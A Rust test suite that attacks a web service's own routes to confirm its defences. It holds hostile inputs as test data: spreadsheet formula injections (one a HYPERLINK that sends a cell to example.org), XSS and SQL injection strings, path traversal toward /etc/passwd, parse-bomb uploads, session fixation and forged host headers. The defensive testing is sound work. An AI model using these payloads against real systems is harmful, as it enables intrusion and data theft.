//! What somebody hostile tries, through the routes that are shipped. Each test fails where its defence is taken away. Everybody here is made up.

#![expect(clippy::unwrap_used, reason = "a test stops where something unforeseen happens")]

#[expect(dead_code, reason = "each test file uses its part")]
mod signed_in;

use std::collections::BTreeSet;
use std::time::{Duration, Instant};

use axum::http::{Method, StatusCode};
use service::record::access::Role;
use signed_in::{Answer, PASSWORD, Person, Site, site};
use web::{Gate, Opened};

const SOME: [Role; 4] = [Role::Administrator, Role::Analyst, Role::Commissioner, Role::QualityOfficer];

/// Adds a provider of this name; gives where it stands.
async fn provider(site: &Site, name: &str) -> String {
    let words = format!("name={}&legal_name=&sector=private&status=approved", encoded(name));
    let made = site.send(Some(site.person(Role::QualityOfficer)), &Method::POST, "/providers/new", &words).await;
    assert_eq!(made.status, StatusCode::SEE_OTHER, "{name}: {}", made.body);
    made.location
}

fn encoded(text: &str) -> String {
    form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

/// A form with a file, as a browser sends it, the token first.
fn with_file(who: &Person, name: &str, content: &str) -> String {
    let token = &who.token;
    format!(
        "--b\r\nContent-Disposition: form-data; name=\"form-token\"\r\n\r\n{token}\r\n\
         --b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\n\r\n{content}\r\n--b--\r\n"
    )
}

async fn upload(site: &Site, path: &str, name: &str, content: &str) -> Answer {
    let who = site.person(Role::Analyst);
    let kind = [("content-type", "multipart/form-data; boundary=b")];
    site.raw(Some(who), &Method::POST, path, &kind, &with_file(who, name, content)).await
}

#[tokio::test]
async fn what_somebody_typed_is_no_formula_in_a_spreadsheet() {
    let site = site(&SOME, Opened::here).await;
    let names = ["=HYPERLINK(\"https://example.org/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"];
    for name in names {
        provider(&site, name).await;
    }
    let csv = site.send(Some(site.person(Role::QualityOfficer)), &Method::GET, "/providers.csv", "").await;
    for name in names {
        assert!(csv.body.contains(&format!("'{}", name.replace('"', "\"\""))), "{name}: {}", csv.body);
    }
    let begins = csv.body.lines().filter(|line| line.trim_start_matches('"').starts_with(['=', '+', '-', '@'])).count();
    assert_eq!(begins, 0, "{}", csv.body);
}

#[tokio::test]
async fn what_somebody_typed_is_text_on_every_page_that_shows_it() {
    let site = site(&SOME, Opened::here).await;
    let officer = Some(site.person(Role::QualityOfficer));
    let name = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>";
    let at = provider(&site, name).await;
    for path in ["/providers".to_owned(), at.clone(), format!("{at}/correct"), "/homes/new".to_owned()] {
        let page = site.send(officer, &Method::GET, &path, "").await;
        assert!(page.body.contains("&lt;script&gt;alert(1)"), "{path} shows the name");
        assert!(!page.body.contains("<script>alert") && !page.body.contains("<img src=x"), "{path}");
    }
    // What comes back from a form and from an address, too.
    let typed = site.send(officer, &Method::POST, "/providers/new", &format!("name=&legal_name={}", encoded(name))).await;
    assert!(
        typed.status == StatusCode::UNPROCESSABLE_ENTITY && typed.body.contains("&lt;script&gt;") && !typed.body.contains("<script>alert")
    );
    let searched = site.send(officer, &Method::GET, &format!("/providers?search={}", encoded(name)), "").await;
    assert!(searched.body.contains("&lt;script&gt;") && !searched.body.contains("<script>alert"));
}

#[tokio::test]
async fn what_is_asked_is_never_part_of_a_statement() {
    let site = site(&SOME, Opened::here).await;
    let officer = Some(site.person(Role::QualityOfficer));
    provider(&site, "Elm").await;
    provider(&site, "Oak’s; DROP TABLE provider; --").await;
    let rows = async |path: &str| {
        let answer = site.send(officer, &Method::GET, path, "").await;
        assert_eq!(answer.status, StatusCode::OK, "{path}");
        answer.body.lines().count() - 1
    };
    assert_eq!(rows("/providers.csv").await, 2);
    assert_eq!(rows("/providers.csv?search=elm").await, 1);
    for search in ["' OR '1'='1", "\" OR \"\"=\"", "x') OR 1=1 --", "\\", "'; DELETE FROM provider; --", "%00elm%00x"] {
        let path = format!("/providers.csv?search={}", if search.contains('%') { search.to_owned() } else { encoded(search) });
        assert_eq!(rows(&path).await, 0, "{search}");
    }
    for path in [
        "/homes?sort=name;DROP+TABLE+setting",
        "/providers?after=%27",
        "/foster-homes?stage=%27+OR+1%3D1",
        "/homes/1%27%20OR%20%271%27=%271",
    ] {
        let answer = site.send(officer, &Method::GET, path, "").await;
        assert!(answer.status.is_client_error() || answer.status == StatusCode::OK, "{path}: {}", answer.status);
        assert_ne!(answer.status, StatusCode::INTERNAL_SERVER_ERROR, "{path}");
    }
    assert_eq!(rows("/providers.csv").await, 2, "nothing was dropped");
}

#[tokio::test]
async fn no_other_site_writes_through_any_route() {
    let site = site(&Role::ALL, Opened::here).await;
    let mut tried = 0;
    let paths: BTreeSet<&str> = web::doors().table().iter().filter(|(_, gate)| *gate != Gate::Public).map(|(path, _)| *path).collect();
    for path in paths {
        let at = path.replace("{sheet}", "supply").replace("{what}", "terms");
        let at: String = at
            .split('/')
            .map(|part| if part.starts_with('{') { "01930000-0000-7000-8000-0000000000ab" } else { part })
            .collect::<Vec<_>>()
            .join("/");
        for role in [Role::Administrator, Role::QualityOfficer, Role::Analyst, Role::Director] {
            let who = site.person(role);
            let form = who.form("");
            let with = async |headers: &[(&str, &str)], body: &str| site.raw(Some(who), &Method::POST, &at, headers, body).await;
            let bare = with(&[], "name=x").await;
            if bare.status == StatusCode::METHOD_NOT_ALLOWED {
                continue;
            }
            assert_eq!(bare.status, StatusCode::FORBIDDEN, "{role} {at} without the token");
            let from_elsewhere = with(&[("sec-fetch-site", "cross-site")], &form).await;
            assert_eq!(from_elsewhere.status, StatusCode::FORBIDDEN, "{role} {at} from another site");
            assert_eq!(
                with(&[("origin", "https://example.org")], &form).await.status,
                StatusCode::FORBIDDEN,
                "{role} {at} with another origin"
            );
            tried += 1;
        }
    }
    assert!(tried > 60, "{tried}");
}

#[tokio::test]
async fn signing_in_gives_a_session_that_nobody_chose() {
    let site = site(&SOME, Opened::here).await;
    let body = format!("email=commissioner%40example.gov.uk&password={}", PASSWORD.replace(' ', "+"));
    let theirs = site.person(Role::Analyst).cookie.clone();
    let planted = format!("placewell={}", "ab".repeat(32));
    let mut seen = BTreeSet::from([theirs.clone(), planted.clone()]);
    for cookie in [&theirs, &planted] {
        let answer = site.raw(None, &Method::POST, "/sign-in", &[("cookie", cookie)], &body).await;
        let given = answer.cookie.split(';').next().unwrap().to_owned();
        assert!(answer.status == StatusCode::SEE_OTHER && seen.insert(given), "{}", answer.cookie);
    }
    // Neither is the planted one opened by it, nor does the other person's become somebody else's.
    assert!(site.raw(None, &Method::GET, "/account", &[("cookie", &planted)], "").await.location.starts_with("/sign-in"));
    let page = site.raw(None, &Method::GET, "/account", &[("cookie", &theirs)], "").await;
    assert!(page.body.contains("analyst@example.gov.uk") && !page.body.contains("commissioner@"));
}

#[tokio::test]
async fn names_of_files_lead_nowhere() {
    let site = site(&SOME, Opened::here).await;
    let sample = site.send(Some(site.person(Role::Analyst)), &Method::GET, "/files/supply/sample.csv", "").await.body;
    assert!(sample.starts_with("setting,type,sector"), "{sample}");
    for (name, shown) in [("../../etc/passwd", "passwd"), ("a<b>.csv", "ab.csv")] {
        let sent = upload(&site, "/files/supply?back=/gap", name, &sample).await;
        assert_eq!(sent.status, StatusCode::SEE_OTHER, "{name}: {}", sent.body);
        let page = site.send(Some(site.person(Role::Analyst)), &Method::GET, "/files/supply", "").await.body;
        assert!(page.contains(&format!("<strong>{shown}</strong>")) && !page.contains("../"), "{name}");
    }
    for path in [
        "/assets/..%2f..%2fCargo.toml",
        "/assets/%2e%2e/%2e%2e/etc/passwd",
        "/files/..%2f..%2fetc%2fpasswd",
        "/statement/..%2f..%2fetc%2fpasswd",
        "/statement/%2fetc%2fpasswd",
        "/forecast/scenarios/kept/..%2f..%2fetc%2fpasswd",
        "/forecast/scenarios/kept/..%2f..%2fetc%2fpasswd/scenario.toml",
        "/assets/style.css%00.svg",
    ] {
        let answer = site.send(Some(site.person(Role::Analyst)), &Method::GET, path, "").await;
        assert!(answer.status.is_client_error() && !answer.body.contains("root:"), "{path}: {}", answer.status);
    }
    let led = upload(&site, "/files/supply?back=https://example.org/", "a.csv", &sample).await;
    assert!(led.location.starts_with('/') && !led.location.starts_with("//"), "{}", led.location);
}

#[tokio::test]
async fn a_file_made_to_burst_is_refused_soon_and_in_words() {
    let site = site(&SOME, Opened::here).await;
    let nested = format!("[[lever]]\nname = {}1{}\n", "[".repeat(200_000), "]".repeat(200_000));
    let tables = (0..60_000).fold(String::new(), |text, number| text + &format!("[a{number}]\n"));
    let cell = format!("setting,type\n\"{}\",x\n", "a".repeat(1_900_000));
    let columns = format!("setting,type{}\n1\n", ",".repeat(900_000));
    // The smallest beginning of a workbook: a page of levers or homes takes none, whatever would unpack from it.
    let archive = format!("PK\u{3}\u{4}{}", "\u{0}".repeat(1000));
    for (path, content) in [
        ("/forecast/scenarios/send", nested.as_str()),
        ("/forecast/scenarios/send", tables.as_str()),
        ("/files/supply", cell.as_str()),
        ("/files/supply", columns.as_str()),
        ("/files/prices", archive.as_str()),
    ] {
        let began = Instant::now();
        let answer = upload(&site, path, "file.csv", content).await;
        let words = &content[..content.floor_char_boundary(30)];
        assert!(answer.status.is_client_error(), "{path} {words}: {}", answer.status);
        assert!(answer.body.contains("<h1") && answer.body.len() < 200_000, "{path} {words}: {} bytes", answer.body.len());
        assert!(began.elapsed() < Duration::from_secs(20), "{path} {words}: {:?}", began.elapsed());
    }
    // A packed request is not unpacked.
    let who = site.person(Role::Analyst);
    let packed = [("content-type", "application/x-www-form-urlencoded"), ("content-encoding", "gzip")];
    let answer = site.raw(Some(who), &Method::POST, "/forecast/stop", &packed, "\u{1f}\u{8b}").await;
    assert!(answer.status.is_client_error(), "{}", answer.status);
}

#[tokio::test]
async fn a_form_of_a_hundred_thousand_fields_is_answered() {
    let site = site(&SOME, Opened::here).await;
    let who = site.person(Role::QualityOfficer);
    let began = Instant::now();
    let many = site.send(Some(who), &Method::POST, "/providers/new", &"a=&".repeat(300_000)).await;
    assert!(many.status.is_client_error(), "{}", many.status);
    let parts = "--b\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\n\r\n".repeat(30_000);
    let form = with_file(site.person(Role::Analyst), "a.csv", "x").replacen(
        "--b\r\nContent-Disposition: form-data; name=\"file\"",
        &format!("{parts}--b\r\nContent-Disposition: form-data; name=\"file\""),
        1,
    );
    let kind = [("content-type", "multipart/form-data; boundary=b")];
    let parted = site.raw(Some(site.person(Role::Analyst)), &Method::POST, "/files/supply", &kind, &form).await;
    assert!(parted.status.is_client_error(), "{}", parted.status);
    assert!(began.elapsed() < Duration::from_secs(20), "{:?}", began.elapsed());
}

#[tokio::test]
async fn every_answer_says_what_to_refuse_and_keeps_nothing() {
    let site = site(&SOME, Opened::here).await;
    for path in ["/", "/people", "/providers", "/providers.csv", "/homes", "/account", "/nowhere", "/api/v1/benchmark", "/children"] {
        for who in [None, Some(site.person(Role::QualityOfficer)), Some(site.person(Role::Administrator))] {
            let answer = site.send(who, &Method::GET, path, "").await;
            let policy = answer.header("content-security-policy");
            assert!(
                policy.starts_with("default-src 'none'") && policy.contains("frame-ancestors 'none'") && !policy.contains("unsafe"),
                "{path}"
            );
            assert!(policy.contains("form-action 'self'") && policy.contains("base-uri 'none'"), "{path}");
            assert_eq!(answer.header("x-content-type-options"), "nosniff", "{path}");
            assert_eq!(answer.header("referrer-policy"), "no-referrer", "{path}");
            assert_eq!(answer.header("cross-origin-opener-policy"), "same-origin", "{path}");
            assert_eq!(answer.header("cross-origin-resource-policy"), "same-origin", "{path}");
            assert_eq!(answer.header("cache-control"), "no-store", "{path}");
            assert_eq!(answer.header("strict-transport-security"), "", "{path}: this machine has no TLS to come by");
            assert!(answer.header("x-request-id").len() >= 8, "{path}");
        }
    }
}

#[tokio::test]
async fn behind_tls_browsers_are_told_to_come_by_it_alone() {
    let site = site(&[Role::Analyst], |record, authority| {
        Opened::here(record, authority).at("https://placewell.example.gov.uk".to_owned(), vec!["192.0.2.10".parse().unwrap()])
    })
    .await;
    for (host, path) in
        [("placewell.example.gov.uk", "/accessibility"), ("placewell.example.gov.uk", "/nowhere"), ("elsewhere.example", "/")]
    {
        let answer = site.from("192.0.2.10", host, path).await;
        assert_eq!(answer.header("strict-transport-security"), "max-age=31536000", "{host}{path}");
    }
}

#[tokio::test]
async fn no_link_is_made_from_the_name_that_a_request_gives() {
    let site = site(&SOME, Opened::here).await;
    let admin = site.person(Role::Administrator);
    let words = admin.form("name=Ada&email=ada%40example.gov.uk&role=analyst");
    for (name, value) in
        [("x-forwarded-host", "example.org"), ("forwarded", "host=example.org"), ("x-original-url", "/account"), ("x-host", "example.org")]
    {
        let made = site.raw(Some(admin), &Method::POST, "/people/invite", &[(name, value)], &words).await;
        assert!(!made.body.contains("example.org"), "{name}");
        let page = site.raw(Some(admin), &Method::GET, "/people", &[(name, value)], "").await;
        assert!(page.status == StatusCode::OK && page.body.contains("People") && !page.body.contains("example.org"), "{name}");
    }
    let answer = site.from("192.0.2.1", "example.org", "/sign-in").await;
    assert_eq!(answer.status, StatusCode::MISDIRECTED_REQUEST);
}
